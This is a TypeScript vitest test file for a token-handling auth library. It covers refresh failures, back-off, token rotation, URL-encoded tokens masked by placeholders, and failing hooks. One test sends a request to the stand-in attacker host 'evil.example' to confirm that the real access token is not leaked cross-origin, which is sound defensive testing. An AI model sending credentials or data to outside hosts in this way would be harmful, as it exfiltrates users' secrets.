/** What servers of any kind answer, and what becomes of the session. */
import { describe, expect, it } from 'vitest'
import type { Options } from '../../../src/core/options/options.ts'
import { jsonResponse, NOW, received, type Sent } from '../kit.ts'
import { openCore } from './whole-core.ts'

const TOKENS = { access_token: 'first-access-token', refresh_token: 'first-refresh-token', expires_in: 60 }
const HOUR = 3_600_000

const isLogin = ({ url }: Sent) => url.endsWith('/auth/login')
const isRefresh = ({ url }: Sent) => url.endsWith('/auth/refresh')

/** Logs in; refreshes are answered by `answer`, and the API with what it is sent. The token has expired. */
async function openWith(answer: () => Response, options: Partial<Options> = {}) {
  const core = openCore({ refreshTokenUrl: '/auth/refresh', ...options }, sent => {
    if (isLogin(sent)) return jsonResponse(TOKENS)
    return isRefresh(sent) ? answer() : new Response(sent.authorization)
  })
  await core.post('/auth/login')
  core.clock.time += 61_000
  return core
}

/** As a browser gives it where it may not follow. */
const redirect = () => received(Response.error(), { type: 'opaqueredirect' })

describe('a token endpoint that redirects, as to a login', () => {
  it('has answered: the session is kept, and the state says that refreshes fail (G12, W38)', async () => {
    const core = await openWith(redirect)
    expect((await core.send('/api/me')).status).toBe(503)
    expect(await core.state()).toMatchObject({ status: 'authenticated', failingSince: NOW + 61_000 })
    // Back-off: no other attempt so soon.
    await core.send('/api/me')
    expect(core.sent.filter(isRefresh)).toHaveLength(1)
  })

  it('ends it after unavailableLimit, and whatever a hook says of refusals (G12, W38)', async () => {
    for (const options of [{}, { isRefreshRejected: () => false }]) {
      const core = await openWith(redirect, options)
      for (let hour = 0; hour <= 24; hour++) {
        await core.send('/api/me')
        core.clock.time += HOUR
      }
      expect(await core.state()).toEqual({ status: 'anonymous', reason: 'unavailable' })
      expect((await core.inspect()).hookFailures).toEqual([])
    }
  })
})

describe('a server that fails, and a machine that sleeps', () => {
  const fails = () => received(new Response('<html>', { status: 502 }))
  const everyHour = async (core: Awaited<ReturnType<typeof openWith>>, hours: number) => {
    for (let hour = 0; hour < hours; hour++) {
      await core.send('/api/me')
      core.clock.time += HOUR
    }
  }

  it.each([
    ['a few minutes', 40_000 / HOUR],
    ['half a day', 2],
  ])('a weekend after %s of failures does not count as one of them (G12, W38)', async (_, hours) => {
    const core = await openWith(fails)
    for (let count = 0; count < 6; count++) {
      await core.send('/api/me')
      core.clock.time += hours * HOUR
    }
    core.clock.time += 60 * HOUR
    await core.send('/api/me')
    expect(await core.state()).toMatchObject({ status: 'authenticated', failingSince: NOW + 61_000 })
    // What goes on after it does.
    core.clock.time += HOUR
    await everyHour(core, 24)
    expect(await core.state()).toEqual({ status: 'anonymous', reason: 'unavailable' })
  })

  it('that is awake once a day gives up all the same (G12, W38)', async () => {
    const core = await openWith(fails)
    for (let day = 0; day < 4; day++) {
      await core.send('/api/me')
      core.clock.time += 24 * HOUR
    }
    expect(await core.state()).toMatchObject({ status: 'authenticated' })
    await core.send('/api/me')
    expect(await core.state()).toEqual({ status: 'anonymous', reason: 'unavailable' })
  })
})

describe('servers that send a new token with every answer', () => {
  it('an answer that repeats the token of its request does not take the place of a newer one (W46)', async () => {
    let count = 0
    const core = openCore(
      {
        useRefreshToken: false,
        tokensInAnswers: true,
        readTokens: ({ headers }) => {
          const accessToken = headers.get('X-Token')
          return accessToken ? { accessToken } : null
        },
      },
      sent => {
        // As devise_token_auth has it: one of those that come at once gets a new one.
        const repeated = isLogin(sent) ? 'token-0' : (sent.authorization?.replace('Bearer ', '') ?? '')
        const token = !isLogin(sent) && ++count === 1 ? 'token-1' : repeated
        return received(new Response('{}', { headers: { 'X-Token': token } }))
      },
    )
    await core.post('/auth/login')
    await Promise.all([core.send('/api/a'), core.send('/api/b'), core.send('/api/c')])
    expect(core.stored()).toMatchObject({ accessToken: 'token-1' })
  })
})

describe('tokens with signs that URLs and forms encode', () => {
  const [access, refresh] = ['abc+/def==ghijklmno~!*', 'r+/=0123456789(abc)']
  const readTokens: Options['readTokens'] = async response => {
    const fields = new URLSearchParams(await response.text())
    return { accessToken: fields.get('access_token'), refreshToken: fields.get('refresh_token') }
  }
  const form = String(new URLSearchParams({ access_token: access, refresh_token: refresh, scope: 'a b' }))
  const lower = form.replace(/%\w\w/g, code => code.toLowerCase())

  it.each([
    ['a form', form],
    ['a form in small letters', lower],
    ['as they are', `access_token=${encodeURIComponent(access)}&${form.split('&')[1]}&scope=a+b`],
  ])('are hidden in %s, wherever it stands (W45)', async (_, text) => {
    const headers = { 'Content-Type': 'application/x-www-form-urlencoded', 'X-Next': `/done#${text}` }
    const core = openCore({ readTokens }, () => received(new Response(text, { headers })))
    const response = await core.post('/auth/login')
    const seen = [await response.text(), response.headers.get('X-Next')?.slice(6) ?? '']
    expect(await core.state()).toMatchObject({ status: 'authenticated' })
    for (const part of seen) {
      const fields = Object.fromEntries(new URLSearchParams(part))
      expect(fields).toEqual({
        access_token: expect.stringContaining('refresh-worker-access-token'),
        refresh_token: expect.stringContaining('refresh-worker-refresh-token'),
        scope: 'a b',
      })
    }
  })
})

describe('a predicate that fails', () => {
  const TOKEN = 'first-access-token'
  const failing: Partial<Record<'apiUrls' | 'loginUrl' | 'tokensInBodies', never>>[] = [
    { loginUrl: ['/auth/login', async () => true] as never },
    { apiUrls: ['/api/', async () => true] as never },
    { tokensInBodies: [async () => Promise.reject(new Error('no'))] as never },
    { apiUrls: ['/api/', () => ({})] as never },
  ]

  it.each(failing)('is named in inspect(), and counted: %o (W52)', async options => {
    const core = openCore(options, () => jsonResponse({}))
    for (let count = 0; count < 2; count++) await core.send('/else', { method: 'POST' })
    const [name] = Object.keys(options)
    const { hookFailures } = await core.inspect()
    expect(hookFailures).toEqual([
      { hook: name, problem: expect.stringContaining(`a predicate in ${name}`), at: NOW, count: expect.any(Number) },
    ])
    expect(hookFailures[0]?.count).toBeGreaterThan(1)
    expect(core.log.filter(line => line.includes('a predicate'))).toHaveLength(1)
  })

  it('by a promise in loginUrl has not kept a login from being one (W52)', async () => {
    const core = openCore({ loginUrl: (async () => true) as never, refreshTokenUrl: '/r' }, () =>
      received(jsonResponse({ access_token: TOKEN })),
    )
    expect(await (await core.post('/x')).text()).not.toContain(TOKEN)
    expect(await core.state()).toMatchObject({ status: 'authenticated' })
  })

  it('by a promise in loginUrl brings no token to another server (W52)', async () => {
    const core = openCore({ loginUrl: ['/auth/login', (async () => true) as never] }, sent =>
      isLogin(sent) ? jsonResponse({ access_token: TOKEN }) : received(new Response(sent.body), { type: 'cors' }),
    )
    const { access_token: placeholder } = await (await core.post('/auth/login')).json()
    await core.post('https://evil.example/x', { placeholder }).catch(() => undefined)
    expect(core.sent.map(({ body }) => body).join()).not.toContain(TOKEN)
  })
})
